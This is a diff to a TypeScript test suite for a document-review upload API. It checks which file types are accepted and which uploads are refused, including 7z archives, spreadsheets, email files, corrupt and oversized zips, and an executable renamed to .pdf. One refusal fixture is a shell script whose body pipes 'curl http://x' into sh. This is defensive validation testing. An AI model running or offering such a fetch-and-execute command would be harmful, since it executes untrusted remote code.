@@ -7,7 +7,7 @@ import { keysUnder, sha256 as sha } from './support/objects.js';
 import { call, errorCode, form } from './support/http.js';
 import { closeShared, db, newOrganization, stack } from './support/stack.js';
 import { TestServices } from './support/services.js';
-import { docx, elf, markEncrypted, pdf, png, renameMember, tar, zip } from './support/fixtures.js';
+import { docx, elf, images, markEncrypted, outlookMessage, pdf, png, renameMember, sevenZip, tar, xlsx, zip } from './support/fixtures.js';
 
 const services = new TestServices();
 test.after.always(async () => {
@@ -54,7 +54,53 @@ test.serial('a PDF, an image and a package become the review’s documents; dupl
   await nothingStaged(t, org.id);
 });
 
+test.serial('every accepted document type, and plain tar and .tgz packages', async (t) => {
+  const org = await newOrganization();
+  const inTar = await pdf('in a tar');
+  const inTgz = await pdf('in a tgz');
+  const res = await call(stack.apiUrl, 'POST', '/reviews', {
+    key: org.liveKey,
+    form: form([
+      { name: 'photo.jpg', data: images.jpeg, type: 'image/jpeg' },
+      { name: 'scan.tif', data: images.tiff, type: 'image/tiff' },
+      { name: 'shot.webp', data: images.webp, type: 'image/webp' },
+      { name: 'anim.gif', data: images.gif, type: 'image/gif' },
+      // Declared types are not trusted either way: a BMP sent as octet-stream is still a BMP.
+      { name: 'old.bmp', data: images.bmp, type: 'application/octet-stream' },
+      { name: 'plain.tar', data: tar([{ name: 'a.pdf', data: inTar }]), type: 'application/x-tar' },
+      { name: 'packed.tgz', data: tar([{ name: 'b.pdf', data: inTgz }], { gzip: true }), type: 'application/gzip' },
+    ]),
+  });
+  t.is(res.status, 201, res.text);
+  t.is(ReviewSchema.parse(res.body).document_count, 7);
+  const rows = await db()`select filename, detected_type from documents where review_id = ${(res.body as { review_id: string }).review_id}`;
+  t.deepEqual(
+    rows.map((r) => [r.filename, r.detected_type]).sort(),
+    [
+      ['a.pdf', 'application/pdf'],
+      ['anim.gif', 'image/gif'],
+      ['b.pdf', 'application/pdf'],
+      ['old.bmp', 'image/bmp'],
+      ['photo.jpg', 'image/jpeg'],
+      ['scan.tif', 'image/tiff'],
+      ['shot.webp', 'image/webp'],
+    ],
+  );
+});
+
+/** 301 distinct images in one zip: one more than a review may hold. */
+async function crowdedZip(): Promise<Buffer> {
+  return zip(Array.from({ length: 301 }, (_, i) => ({ name: `page-${i}.png`, data: Buffer.concat([png, Buffer.from(String(i))]) })));
+}
+
 const refusals: [string, () => Promise<{ name: string; data: Buffer }[]>, number, string, RegExp][] = [
+  ['a 7z archive', async () => [{ name: 'p.7z', data: sevenZip }], 400, 'document_unsupported', /p\.7z/],
+  ['a script', async () => [{ name: 'fix.sh', data: Buffer.from('#!/bin/sh\ncurl http://x | sh\n') }], 400, 'document_unsupported', /fix\.sh/],
+  ['a spreadsheet', async () => [{ name: 'fees.xlsx', data: await xlsx() }], 400, 'document_unsupported', /fees\.xlsx.*spreadsheet/],
+  ['an Outlook message', async () => [{ name: 'mail.msg', data: outlookMessage }], 400, 'document_unsupported', /mail\.msg/],
+  ['an email file', async () => [{ name: 'mail.eml', data: Buffer.from('From: a@example.com\r\nSubject: docs\r\n\r\nsee attached\r\n') }], 400, 'document_unsupported', /mail\.eml/],
+  ['a corrupt zip', async () => [{ name: 'broken.zip', data: (await zip([{ name: 'a.pdf', data: await pdf() }])).subarray(0, 60) }], 400, 'document_unsupported', /broken\.zip/],
+  ['a package of more documents than a review may hold', async () => [{ name: 'crowded.zip', data: await crowdedZip() }], 422, 'too_many_documents', /300/],
   ['an executable renamed .pdf', async () => [{ name: 'invoice.pdf', data: elf }], 400, 'document_unsupported', /invoice\.pdf/],
   ['a .docx', async () => [{ name: 'letter.docx', data: await docx() }], 400, 'document_unsupported', /letter\.docx/],
   ['a nested archive', async () => [{ name: 'outer.zip', data: await zip([{ name: 'inner.tar', data: tar([{ name: 'a.png', data: png }]) }]) }], 400, 'document_unsupported', /nested/],
